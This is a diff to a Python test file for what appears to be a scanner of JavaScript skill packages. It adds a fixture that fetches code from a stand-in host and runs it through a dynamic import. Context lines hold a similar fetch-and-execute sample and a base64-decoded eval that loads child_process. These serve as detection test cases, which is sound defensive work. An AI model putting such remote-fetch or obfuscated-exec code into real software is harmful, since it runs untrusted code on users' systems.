@@ -80,6 +80,11 @@ POSITIVE = {
         "fetch('https://cdn.invalid/a').then((r) => r.text()).then((t) => new Function(t)());",
         "js-flow.remote-code-exec",
     ),
+    "dynamic-import-remote": (
+        "const r = await fetch('https://cdn.invalid/m.js');\nconst src = await r.text();\n"
+        "await import(`data:text/javascript,${encodeURIComponent(src)}`);",
+        "js-flow.remote-code-exec",
+    ),
     "eval-decoded": (
         "const p = Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString();\neval(p);",
         "js-flow.decoded-exec",
@@ -98,8 +103,8 @@ NEGATIVE = {
         "js-flow.credential-to-network",
     ),
     "axios": (
-        "import axios from 'axios';\n"
-        "await axios.get('https://api.invalid', { headers: { 'X-Api-Key': process.env.API_KEY } });",
+        "import axios from 'axios';\nconst headers = { 'X-Api-Key': process.env.API_KEY };\n"
+        "await axios.get('https://api.invalid', { headers });",
         "flow.env-secret-to-network",
     ),
     "query-key": (
@@ -205,9 +210,7 @@ SYNC = (
 def _threat_severities(host: str) -> list[str]:
     files = {"SKILL.md": SKILL_TEMPLATE, "scripts/sync.js": SYNC.format(host=host)}
     findings = answer("threat", files)["findings"]
-    return [
-        f["severity"] for f in findings if "[flow.env-secret-to-network]" in f["description"]
-    ]
+    return [f["severity"] for f in findings if "[flow.env-secret-to-network]" in f["description"]]
 
 
 def test_key_sent_to_the_declared_api_is_declared_behaviour() -> None:
